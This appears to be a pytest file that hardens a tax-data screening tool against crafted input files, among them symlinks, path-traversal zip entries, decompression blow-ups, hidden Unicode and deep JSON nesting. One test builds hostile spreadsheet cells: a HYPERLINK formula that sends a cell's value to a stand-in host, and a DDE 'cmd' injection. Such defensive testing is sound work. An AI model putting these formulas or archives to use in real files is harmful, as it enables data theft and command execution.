"""Crafted files with links, formulas, nested columns or hidden text."""

import contextlib
import os
import resource
import socket
import zipfile
from pathlib import Path

import polars as pl
import pytest
import xlsxwriter

from support.batches import cells, csv_text, frame_of, row, write_batch
from support.refusals import refused
from withhold.law import pack
from withhold.model.errors import Unreadable
from withhold.screening import COLUMNS, read_batch, screen
from withhold.screening.frame.canonical import canonical_frame
from withhold.screening.reading import open_batch
from withhold.screening.reading.chunk import CHUNK_BYTES

COVERS = ("withhold.screening.frame.canonical", "withhold.screening.reading")

PACK = pack("us-irc-6103-i-2")


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".jsonl", ".parquet"])
def test_a_link_is_refused_whatever_it_points_to(tmp_path: Path, suffix: str) -> None:
    write_batch(tmp_path / f"real{suffix}", frame_of([row()]))
    (tmp_path / f"b{suffix}").symlink_to(tmp_path / f"real{suffix}")
    refused(tmp_path / f"b{suffix}", saying="This is a link. Name the file itself.")


def test_a_link_to_a_device_and_a_socket(tmp_path: Path) -> None:
    (tmp_path / "b.csv").symlink_to("/dev/zero")
    refused(tmp_path / "b.csv", saying="This is a link")
    # A socket's name may not be long, and a temporary directory's can be.
    with contextlib.chdir(tmp_path), socket.socket(socket.AF_UNIX) as listener:
        listener.bind("c.csv")
        refused(tmp_path / "c.csv", saying="cannot be opened")


def test_a_file_that_others_may_not_read(tmp_path: Path) -> None:
    path = write_batch(tmp_path / "b.csv", frame_of([row()]))
    path.chmod(0)
    if os.geteuid():
        refused(path, saying="cannot be opened")
    else:  # who may read everything reads it
        assert read_batch(path).height == 1


@pytest.mark.parametrize(
    ("suffix", "change"),
    [
        *((suffix, change) for suffix in (".csv", ".jsonl") for change in ("grown", "cut", "replaced", "gone")),
        *((".parquet", change) for change in ("cut", "replaced")),
    ],
)
def test_a_file_that_changes_while_it_is_read(tmp_path: Path, suffix: str, change: str) -> None:
    path = write_batch(tmp_path / f"b{suffix}", frame_of(row(n) for n in range(1, 50)))
    parts = open_batch(path).chunks()
    next(parts)
    if change == "grown":
        with path.open("ab") as file:
            file.write(b"x")
    elif change == "cut":
        os.truncate(path, 10)
    elif change == "replaced":
        other = write_batch(tmp_path / f"other{suffix}", frame_of(row(n) for n in range(1, 50)))
        other.replace(path)
    else:
        path.unlink()
    with pytest.raises(Unreadable, match=r"changed while it was read|cannot be read"):
        list(parts)


def test_a_hundred_thousand_columns(tmp_path: Path) -> None:
    names = [f"c{n}" for n in range(100_000)]
    (tmp_path / "b.csv").write_text(csv_text([["x"] * 100_000], [*COLUMNS, *names]))
    refused(tmp_path / "b.csv", saying="too long to be a header")
    pl.DataFrame({name: ["x"] for name in [*COLUMNS, *names[:2_000]]}).write_parquet(tmp_path / "b.parquet")
    refused(tmp_path / "b.parquet", column="c0", saying="The column is unknown")
    line = "{" + ",".join(f'"c{n}":"SECRET"' for n in range(100_000)) + "}"
    (tmp_path / "b.jsonl").write_text(line)
    refused(tmp_path / "b.jsonl", row=1, column="c0", saying="The column is unknown")


def test_a_formula_cell_counts_as_its_value(tmp_path: Path) -> None:
    path = tmp_path / "b.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, COLUMNS)
        sheet.write_row(1, 0, cells())
        sheet.write_formula(1, 1, '=HYPERLINK("http://example.invalid/?"&A2)', value="click")
        sheet.write_formula(1, 2, "=cmd|' /C calc'!A0", value="0")
    frame = read_batch(path)
    assert frame["tin"].to_list() == ["click"]
    short = screen(frame, PACK, today=PACK.in_force_from).findings["deficiencies"].to_list()[0]
    assert {"tin", "name"} <= set(short)


def test_a_workbook_with_a_password_and_one_with_parts_outside_itself(tmp_path: Path) -> None:
    path = write_batch(tmp_path / "b.xlsx", frame_of([row()]))
    whole = bytearray(path.read_bytes())
    entry = whole.rindex(b"PK\x01\x02")
    whole[entry + 8] |= 1
    path.write_bytes(bytes(whole))
    refused(path, saying="encrypted")
    with zipfile.ZipFile(tmp_path / "c.xlsx", "w") as archive:
        archive.writestr("xl/workbook.xml", "")
        archive.writestr("../../SECRET", "x")
    refused(tmp_path / "c.xlsx", saying="parts outside itself")


def test_metadata_of_a_parquet_file_is_not_trusted(tmp_path: Path) -> None:
    whole = frame_of([row()])
    whole.write_parquet(tmp_path / "b.parquet", metadata={"pandas": '{"columns": 1}' * 999, "geo": "SECRET"})
    assert read_batch(tmp_path / "b.parquet").equals(whole)
    whole.write_parquet(tmp_path / "c.parquet", metadata={"ARROW:schema": "SECRET"})
    refused(tmp_path / "c.parquet", saying="damaged, cut off or too large")


def test_a_few_bytes_of_parquet_that_represent_hundreds_of_megabytes(tmp_path: Path) -> None:
    """Every chunk stays small, though the file repeats one long text ninety thousand times."""
    rows = 90_000
    numbers = pl.int_range(rows, eager=True).cast(pl.String)
    frame = pl.select(*(pl.lit("x" * 200).alias(name) for name in COLUMNS[1:]), numbers.alias("request_ref"))
    frame.write_parquet(tmp_path / "b.parquet")
    assert (tmp_path / "b.parquet").stat().st_size < 2_000_000
    sizes = [len(part.chunk.content) for part in open_batch(tmp_path / "b.parquet").chunks()]
    assert sum(sizes) > 10 * CHUNK_BYTES
    assert max(sizes) < 3 * CHUNK_BYTES


HIDDEN = {
    "right to left": "\u202e3456789\u202c12",
    "zero width": "123\u200b456789",
    "control": "12345\x076789",
    "full width": "１２３４５６７８９",
    "arabic digits": "١٢٣٤٥٦٧٨٩",
    "not a number": "NaN",
    "infinite": "-inf",
    "huge": "1" * 400,
    "float": "1.23456789E+08",
    "negative": "-123456789",
    "dropped zero": "12345678",
    "decimals": "123456789.0",
}


UNHIDDEN = {
    HIDDEN["right to left"]: "345678912",  # whatever order a screen shows: what is compared is what is recorded
    HIDDEN["zero width"]: "123456789",
    HIDDEN["control"]: "123456789",
}


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet"])
def test_numbers_that_are_no_tin(tmp_path: Path, suffix: str) -> None:
    """Invisible characters are removed before a number is checked. With any other odd character, it is not a TIN."""
    rows = frame_of(row(number, tin=text) for number, text in enumerate(HIDDEN.values(), start=1))
    frame = read_batch(write_batch(tmp_path / f"b{suffix}", rows))
    tins = canonical_frame(frame, PACK, PACK.in_force_from)["tin"].to_list()
    assert dict(zip(HIDDEN, tins, strict=True)) == {name: UNHIDDEN.get(text, "") for name, text in HIDDEN.items()}
    found = screen(frame, PACK, today=PACK.in_force_from).findings["deficiencies"].to_list()
    assert ["tin" in short for short in found] == [not tin for tin in tins]


def test_mixed_encodings_and_marks_within_one_file(tmp_path: Path) -> None:
    sound = csv_text([cells(), cells(request_ref="2")]).encode()
    first, second = sound.splitlines(keepends=True)[:2]
    (tmp_path / "b.csv").write_bytes(sound + second * 20 + second.decode().encode("utf-16-be"))
    refused(tmp_path / "b.csv", row=23, saying="line end is where CSV allows none")
    (tmp_path / "d.csv").write_bytes(sound + second.replace(b"Springfield", "Münster".encode("cp1252")))
    refused(tmp_path / "d.csv", row=3, saying="not UTF-8", column="city")
    (tmp_path / "c.csv").write_bytes(first + b"\xef\xbb\xbf" + second)
    assert read_batch(tmp_path / "c.csv")["request_ref"].to_list() == ["\ufeffREF-0001"]


def test_a_hole_of_a_gigabyte(tmp_path: Path) -> None:
    """A sparse file costs its sender nothing. Reading it costs no more than one chunk."""
    path = tmp_path / "b.csv"
    path.write_text(csv_text(cells(request_ref=str(n)) for n in range(30)))
    os.truncate(path, 1 << 30)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    refused(path, row=31, saying="NUL|quote|long", column="request_ref")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 300_000


def test_json_nested_too_deeply_and_numbers_that_are_too_long(tmp_path: Path) -> None:
    values = ("[" * 100_000, '{"tin":' * 50_000, "1e999999", "NaN", "9" * 5_000, "-Infinity")
    for line in (f'{{"tin": {value}}}' for value in values):
        (tmp_path / "b.jsonl").write_text(line + "\n")
        with pytest.raises(Unreadable) as caught:
            read_batch(tmp_path / "b.jsonl")
        assert caught.value.row == 1
        assert "999" not in str(caught.value)
